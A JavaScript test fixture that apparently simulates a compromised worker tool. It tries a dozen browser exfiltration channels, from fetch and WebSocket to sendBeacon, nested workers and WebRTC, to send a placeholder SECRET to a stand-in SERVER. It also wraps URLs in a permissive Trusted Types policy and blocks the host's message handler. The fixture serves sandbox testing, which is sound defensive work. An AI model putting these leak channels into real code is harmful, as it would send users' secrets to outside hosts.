/**
 * As if the makers of a tool had been taken over: it tries every way out of its worker, then says what ANSWERS holds for
 * the file's name. SECRET, SERVER and ANSWERS are filled in.
 */
(() => {
  const address = (channel) => `SERVER/leak?tool-${channel}=SECRET`;
  const LONGEST_TRY = 3000; // some browsers never tell a worker that its way is closed
  const settled = (start) => new Promise((resolve) => {
    setTimeout(resolve, LONGEST_TRY);
    try { Promise.resolve(start(resolve)).catch(() => {}).finally(resolve); } catch { resolve(); }
  });
  const ended = (thing) => new Promise((resolve) => { thing.onerror = thing.onclose = thing.onmessage = resolve; });
  const nested = `fetch("${address("nested")}", { mode: "no-cors" }).catch(() => {}).finally(() => postMessage("tried"));`;
  const policy = self.trustedTypes?.createPolicy("worker", { createScriptURL: (url) => url });
  const trusted = (url) => policy?.createScriptURL(url) ?? url;
  const ways = [
    () => fetch(address("fetch"), { mode: "no-cors" }),
    () => { const request = new XMLHttpRequest(); request.open("GET", address("xhr"), false); request.send(); },
    () => importScripts(trusted(address("import"))),
    () => import(address("dynamic-import")),
    () => ended(new WebSocket(address("socket").replace("http", "ws"))),
    () => { const source = new EventSource(address("events")); return ended(source).finally(() => source.close()); },
    () => ended(new Worker(trusted(address("worker")))),
    () => ended(new Worker(trusted(URL.createObjectURL(new Blob([nested]))))),
    () => ended(new WebTransport(address("transport").replace("http", "https")).closed),
    () => navigator.sendBeacon(address("beacon"), "SECRET"),
    () => { location = address("location"); },
    () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] }),
  ];
  addEventListener("message", ({ data: port }) => {
    port.onmessage = async ({ data }) => {
      await Promise.all(ways.map(settled));
      for (const answer of ANSWERS[data.file.name]) port.postMessage(answer);
    };
  });
  Object.defineProperty(self, "onmessage", { set() {} }); // ours must not answer first
})();
